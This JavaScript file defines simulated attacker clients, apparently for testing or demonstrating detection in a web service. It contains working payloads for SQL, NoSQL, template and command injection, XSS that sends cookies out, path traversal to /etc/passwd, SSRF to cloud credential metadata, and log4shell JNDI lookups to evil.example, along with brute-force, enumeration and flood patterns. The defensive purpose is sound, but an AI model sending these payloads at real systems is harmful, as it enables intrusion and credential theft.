// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is what they send

const enc = encodeURIComponent;
const PASSWORDS = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'dragon',
  'monkey',
  'iloveyou',
  'teapot',
  'summer26',
  'welcome1',
];
const HIDDEN = [
  '/.env',
  '/.git/config',
  '/admin',
  '/wp-login.php',
  '/phpinfo.php',
  '/backup.zip',
  '/server-status',
  '/actuator/env',
  '/console',
  '/.aws/credentials',
  '/config.json',
  '/db.sql',
  '/old',
  '/test',
  '/swagger.json',
  '/xmlrpc.php',
  '/cgi-bin/test.cgi',
  '/.svn/entries',
  '/debug',
  '/private',
  '/api/v1/admin',
  '/manager/html',
  '/id_rsa',
  '/shell.php',
]; // prettier-ignore

/**
 * Attackers, one client each. `payload` attacks show what they are in a single request; `pattern` attacks only in what a client does
 * over time. `gapMs` is the pause between two requests, `connections` how many a client has open at once.
 */
export const ATTACKS = [
  {
    name: 'SQL injection',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: `/users?name=${enc("x' OR '1'='1' --")}` },
      { path: `/search?q=${enc('1 UNION ALL SELECT user, password FROM accounts--')}` },
      { path: '/login', body: { user: "admin' AND SLEEP(5)#", password: 'x' } },
    ],
  },
  {
    name: 'NoSQL injection',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: '/login', body: { user: 'ada', password: { $ne: null } } },
      { path: '/users?name[$regex]=.*&name[$options]=i' },
      { path: `/search?q=${enc("'; return this.password != null; var x='")}` },
    ],
  },
  {
    name: 'cross-site scripting',
    kind: 'payload',
    gapMs: 300,
    requests: [
      {
        path: '/notes',
        body: { title: 'hello', text: '<script>fetch("//evil.example/?c=" + document.cookie)</script>' },
      },
      { path: `/search?q=${enc('"><img src=x onerror=alert(document.domain)>')}` },
      { path: `/users?name=${enc('<svg/onload=confirm(1)>')}` },
    ],
  },
  {
    name: 'path traversal',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: '/files?name=../../../../etc/passwd' },
      { path: '/files?name=..%252f..%252f..%252fetc%252fshadow' },
      { path: `/files?name=${enc('..\\..\\..\\windows\\win.ini')}` },
    ],
  },
  {
    name: 'command injection',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: `/files?name=${enc('report.pdf; cat /etc/passwd')}` },
      { path: '/orders', body: { items: [], note: '$(curl http://evil.example/x.sh | sh)' } },
      { path: `/search?q=${enc('tea`wget -qO- evil.example/p`')}` },
    ],
  },
  {
    name: 'template injection',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: '/notes', body: { title: '{{7*7}}', text: "{{ ''.__class__.__mro__[1].__subclasses__() }}" } },
      { path: `/search?q=${enc("<%= system('id') %>")}` },
      { path: `/users?name=${enc("#{T(java.lang.Runtime).getRuntime().exec('id')}")}` },
    ],
  },
  {
    name: 'server-side request forgery',
    kind: 'payload',
    gapMs: 300,
    requests: [
      {
        path: '/webhooks',
        body: { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', events: [] },
      },
      { path: '/webhooks', body: { url: 'gopher://127.0.0.1:6379/_FLUSHALL', events: [] } },
      { path: '/webhooks', body: { url: 'file:///etc/passwd', events: [] } },
    ],
  },
  {
    name: 'log4shell',
    kind: 'payload',
    gapMs: 300,
    requests: [
      { path: '/items', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } },
      { path: '/items', headers: { 'x-api-version': '${${lower:j}ndi:${lower:l}dap://evil.example/b}' } },
      { path: `/search?q=${enc('${jndi:dns://evil.example/c}')}` },
    ],
  },
  {
    name: 'log-in brute force',
    kind: 'pattern',
    gapMs: 60,
    requests: Array.from({ length: 30 }, (_, i) => ({
      path: '/login',
      body: { user: 'ada', password: `${PASSWORDS[i % PASSWORDS.length]}${i < 10 ? '' : i}` },
    })),
  },
  {
    name: 'counting through ids',
    kind: 'pattern',
    gapMs: 40,
    requests: Array.from({ length: 40 }, (_, i) => ({ path: `/users/${1000 + i}` })),
  },
  {
    name: 'looking for hidden paths',
    kind: 'pattern',
    gapMs: 40,
    requests: HIDDEN.map((path) => ({ path })),
  },
  {
    name: 'flood',
    kind: 'pattern',
    gapMs: 0,
    connections: 5,
    requests: Array.from({ length: 400 }, (_, i) => ({
      path: `/search?q=tea&n=${i % 3}`,
      headers: { connection: 'close' },
    })),
  },
].map((attack) => ({ ...attack, requests: attack.requests.map(asProgram) }));

/** Attack programs rarely pretend to be a browser. */
function asProgram({ headers, ...request }) {
  return { ...request, headers: { 'user-agent': 'python-requests/2.32.3', accept: '*/*', ...headers } };
}
